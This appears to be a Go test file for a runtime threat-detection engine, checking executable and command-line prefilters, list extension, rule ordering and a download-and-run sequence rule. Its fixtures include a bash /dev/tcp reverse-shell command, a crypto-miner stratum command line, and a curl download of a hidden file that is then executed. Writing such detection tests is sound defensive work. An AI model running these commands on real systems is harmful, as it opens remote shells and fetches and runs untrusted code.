package runtime

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bulwarkdev/bulwark/internal/event"
	"github.com/bulwarkdev/bulwark/internal/model"
)

// TestPrefilterExes: match.exes / exes_list / cmdline_contains decide which
// executions reach a rule (condition "true" fires whatever gets through),
// and constrain nothing but executions.
func TestPrefilterExes(t *testing.T) {
	head := "id: T_X\ntitle: t\nseverity: low\nsources: [ebpf]\nkinds: [process.exec, file]\ncondition: \"true\"\n"
	named := func(exe, name string, args ...string) *event.Event {
		ev := execEvent(exe, args...)
		ev.Process.Name = name
		return ev
	}
	argsOnly := func(exe string, args ...string) *event.Event {
		ev := execEvent(exe, args...)
		ev.Process.Cmdline = ""
		return ev
	}
	file := &event.Event{Time: t0, Source: event.SourceEBPF, Kind: event.KindFile, File: &event.File{Path: "/etc/x", Op: "unlink"},
		Process: &event.Process{Exe: "/bin/rm"}}
	cases := []struct {
		name, match string
		ev          *event.Event
		want        bool
	}{
		{"exact base name", "{exes: [useradd]}", execEvent("/usr/sbin/useradd", "useradd", "bob"), true},
		{"other exe", "{exes: [useradd]}", execEvent("/bin/ls", "ls"), false},
		{"name when exe is unknown", "{exes: [useradd]}", named("", "useradd"), true},
		{"full path entry is its base name", "{exes: [/usr/sbin/useradd]}", execEvent("/sbin/useradd"), true},
		{"base-name glob", `{exes: ["iptables*"]}`, execEvent("/usr/sbin/iptables-legacy", "iptables-legacy"), true},
		{"base-name glob miss", `{exes: ["iptables*"]}`, execEvent("/usr/sbin/ip6tables", "ip6tables"), false},
		{"path glob", `{exes: ["/etc/init.d/*"]}`, execEvent("/etc/init.d/falco", "falco", "stop"), true},
		{"path glob miss", `{exes: ["/etc/init.d/*"]}`, execEvent("/usr/bin/falco"), false},
		{"exes_list", "{exes_list: shells}", execEvent("/bin/dash", "dash"), true},
		{"exes_list several", "{exes_list: [miners, shells]}", execEvent("/tmp/xmrig", "xmrig"), true},
		{"exes_list miss", "{exes_list: shells}", execEvent("/usr/bin/python3"), false},
		{"cmdline substring", "{exes: [nohup], cmdline_contains: [/dev/tcp/]}", execEvent("/bin/bash", "bash", "-c", "sh >& /dev/tcp/1.2.3.4/4444 0>&1"), true},
		{"cmdline case ignored", "{cmdline_contains: [stratum+tcp]}", execEvent("/opt/x", "x", "-o", "STRATUM+TCP://pool:3333"), true},
		{"cmdline one-byte substring", "{cmdline_contains: [\"|\"]}", execEvent("/bin/sh", "sh", "-c", "a|b"), true},
		{"cmdline miss", "{cmdline_contains: [/dev/tcp/]}", execEvent("/bin/bash", "bash", "-i"), false},
		{"cmdline joined from args", "{cmdline_contains: [\"-c id\"]}", argsOnly("/bin/sh", "sh", "-c", "id"), true},
		{"cmdline_contains_list", "{cmdline_contains_list: miner_args}", execEvent("/opt/x", "x", "--donate-level=1"), true},
		{"actions still apply", "{exes: [rm], actions: [other]}", execEvent("/bin/rm", "rm"), false},
		{"other kinds unaffected", "{exes: [useradd]}", file, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := engineFor(t, Options{}, head+"match: "+tc.match+"\n")
			if got := collect(e, tc.ev); (len(got) == 1) != tc.want {
				t.Errorf("fired=%v, want %v", len(got) == 1, tc.want)
			}
		})
	}
}

// TestPrefilterExesListExtended: a user's --lists entry extends the
// executables a rule keyed on that list sees.
func TestPrefilterExesListExtended(t *testing.T) {
	rule := "id: T_X\ntitle: t\nseverity: low\nsources: [ebpf]\nkinds: [process.exec]\nmatch: {exes_list: miners}\n" +
		"condition: basename(evt.process.exe) in lists.miners\n"
	ev := execEvent("/opt/mycoin-miner", "mycoin-miner")
	if got := collect(engineFor(t, Options{}, rule), ev); len(got) != 0 {
		t.Fatalf("fired before the list names it")
	}
	dir := writeFiles(t, map[string]string{"l/mine.yaml": "lists:\n  miners: [mycoin-miner]\n"})
	e := engineFor(t, Options{ListDirs: []string{filepath.Join(dir, "l")}}, rule)
	if got := collect(e, ev); len(got) != 1 {
		t.Fatalf("fired %d times after extending the list, want 1", len(got))
	}
}

func TestPrefilterExesLoadErrors(t *testing.T) {
	head := "id: T_Bad\ntitle: t\nseverity: low\nsources: [ebpf]\nkinds: [process.exec]\ncondition: \"true\"\n"
	for name, tc := range map[string]struct{ match, want string }{
		"unknown list":         {"{exes_list: nope}", `unknown list "nope"`},
		"unknown cmdline list": {"{cmdline_contains_list: [shells, nope]}", `unknown list "nope"`},
		"bad list name":        {"{exes_list: [\"a b\"]}", "list name"},
		"empty exe":            {"{exes: [\"\"]}", "empty name"},
		"empty substring":      {"{cmdline_contains: [\"\"]}", "empty substring"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := writeFiles(t, map[string]string{"bad.yaml": head + "match: " + tc.match + "\n"})
			_, err := New(context.Background(), Options{RuleDirs: []string{dir}, NoBuiltins: true})
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "T_Bad") {
				t.Fatalf("error %v: want it to name T_Bad and say %q", err, tc.want)
			}
		})
	}
}

// TestPrefilterLoadOrder: rules found through the executable index and the
// plain buckets fire in load order, each once.
func TestPrefilterLoadOrder(t *testing.T) {
	mk := func(id, match string) string {
		return "id: " + id + "\ntitle: t\nseverity: low\nsources: [ebpf]\nkinds: [process.exec]\n" + match + "condition: \"true\"\n"
	}
	e := engineFor(t, Options{}, mk("T_A", "match: {exes: [curl], cmdline_contains: [curl]}\n"), mk("T_B", ""),
		mk("T_C", "match: {exes: [\"cu*\", curl], exes_list: downloaders}\n"))
	var ids []string
	for _, a := range collect(e, execEvent("/usr/bin/curl", "curl", "-o", "/tmp/x")) {
		ids = append(ids, a.Type)
	}
	if got := strings.Join(ids, ","); got != "T_A,T_B,T_C" {
		t.Errorf("fired %s, want T_A,T_B,T_C", got)
	}
}

// TestSequenceOutputsReadCaptured: a sequence rule's outputs see what the
// first step captured (DownloadAndRunCombo's downloaded files).
func TestSequenceOutputsReadCaptured(t *testing.T) {
	e, err := New(context.Background(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	var got []model.Alert
	for _, ev := range []*event.Event{execEvent("/usr/bin/curl", "curl", "-so", "/tmp/.x", "http://203.0.113.9/x"),
		execEvent("/tmp/.x", "/tmp/.x")} {
		e.Process(ev, func(a model.Alert) {
			if a.Type == "K8S.NODE_DownloadAndRunCombo" {
				got = append(got, a)
			}
		})
	}
	if len(got) != 1 {
		t.Fatalf("DownloadAndRunCombo fired %d times, want 1", len(got))
	}
	if d := got[0].Properties["downloaded"]; d != "/tmp/.x" {
		t.Errorf("downloaded = %q, want /tmp/.x", d)
	}
}

// TestCmdlineFromArgs: rules read evt.process.cmdline even when the source
// only had argv, and the caller's event is left as it was.
func TestCmdlineFromArgs(t *testing.T) {
	e := engineFor(t, Options{}, `id: T_Cmd
title: t
severity: low
sources: [ebpf]
kinds: [process.exec]
condition: evt.process.cmdline == "sh -c id"
output: {command: evt.process.cmdline}
`)
	ev := execEvent("/bin/sh", "sh", "-c", "id")
	ev.Process.Cmdline = ""
	got := collect(e, ev)
	if len(got) != 1 {
		t.Fatalf("fired %d times, want 1", len(got))
	}
	if c := got[0].Properties["command"]; c != "sh -c id" {
		t.Errorf("command = %q", c)
	}
	if got[0].Actor == nil || got[0].Actor.Command != "sh -c id" {
		t.Errorf("actor = %+v", got[0].Actor)
	}
	if ev.Process.Cmdline != "" {
		t.Errorf("caller's event changed: cmdline %q", ev.Process.Cmdline)
	}
	// A later event with its own cmdline is not served the filled copy.
	ev2 := execEvent("/bin/sh", "sh", "-c", "date")
	if got := collect(e, ev2); len(got) != 0 {
		t.Errorf("second event fired: %+v", got)
	}
}
